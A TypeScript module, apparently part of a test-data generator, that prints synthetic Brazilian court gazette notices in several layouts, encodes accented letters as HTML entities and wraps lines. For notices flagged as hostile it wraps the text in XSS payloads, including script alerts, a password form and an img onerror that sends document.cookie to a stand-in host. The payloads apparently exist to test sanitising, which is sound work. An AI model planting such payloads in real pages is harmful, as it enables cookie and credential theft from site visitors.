import type { Style } from "../courts.ts";
import type { Notice } from "../notice.ts";
import { printAgenda } from "./agenda.ts";
import { printLabour } from "./labour.ts";
import { printLine } from "./line.ts";
import { printListed } from "./listed.ts";
import { printNames } from "./names.ts";
import { printRunOn } from "./run-on.ts";
import { printSuperior } from "./superior.ts";
import { printTable } from "./table.ts";

const printers: Record<Style, (notice: Notice) => string> = {
  line: printLine,
  table: printTable,
  "run-on": printRunOn,
  labour: printLabour,
  agenda: printAgenda,
  names: printNames,
  listed: printListed,
  superior: printSuperior,
};

const accents: Record<string, string> = {
  á: "&aacute;",
  à: "&agrave;",
  â: "&acirc;",
  ã: "&atilde;",
  é: "&eacute;",
  ê: "&ecirc;",
  í: "&iacute;",
  ó: "&oacute;",
  ô: "&ocirc;",
  õ: "&otilde;",
  ú: "&uacute;",
  ç: "&ccedil;",
  Á: "&Aacute;",
  À: "&Agrave;",
  Â: "&Acirc;",
  Ã: "&Atilde;",
  É: "&Eacute;",
  Ê: "&Ecirc;",
  Í: "&Iacute;",
  Ó: "&Oacute;",
  Ô: "&Ocirc;",
  Õ: "&Otilde;",
  Ú: "&Uacute;",
  Ç: "&Ccedil;",
  º: "&ordm;",
  ª: "&ordf;",
  "§": "&sect;",
};

/** Markup that would be harmful on a page that shows it unsanitised. */
const hostileBits = [
  '<div class="fixed inset-0 z-50"><script>alert(document.domain)</script>%</div>',
  '%<img src="x" onerror="fetch(\'https://exemplo.invalid/\' + document.cookie)">',
  '<style>body{display:none}</style>%<a href="javascript:alert(1)">Documento</a>',
  '%<iframe src="https://exemplo.invalid/quadro"></iframe></td></div>',
  '<form action="https://exemplo.invalid/senha"><input name="senha" autofocus onfocus="alert(1)"></form>%',
];

/** The text of a publication in its court's layout. */
export function printNotice(notice: Notice): string {
  if (notice.cancellation) return notice.cancellation.reason;
  let text = printers[notice.legalCase.court.style](notice);
  if (notice.hasEntities) text = text.replace(/[áàâãéêíóôõúçÁÀÂÃÉÊÍÓÔÕÚÇºª§]/g, (letter) => accents[letter]!);
  if (notice.isWrapped) text = wrap(text);
  if (notice.isHostile) text = hostileBits[notice.id % hostileBits.length]!.replace("%", () => text);
  return text;
}

const COLUMNS = 118;

/** Breaks lines at spaces, and after the slash of "OAB 900001/SP" too, as typeset gazettes do. */
function wrap(text: string): string {
  const lines: string[] = [];
  let rest = text;
  while (rest.length > COLUMNS) {
    const space = rest.lastIndexOf(" ", COLUMNS);
    const slash = rest.lastIndexOf("/", COLUMNS - 1) + 1;
    const at = Math.max(space, slash, 1);
    lines.push(rest.slice(0, at).trimEnd());
    rest = rest.slice(at).trimStart();
  }
  return [...lines, rest].join("\n");
}
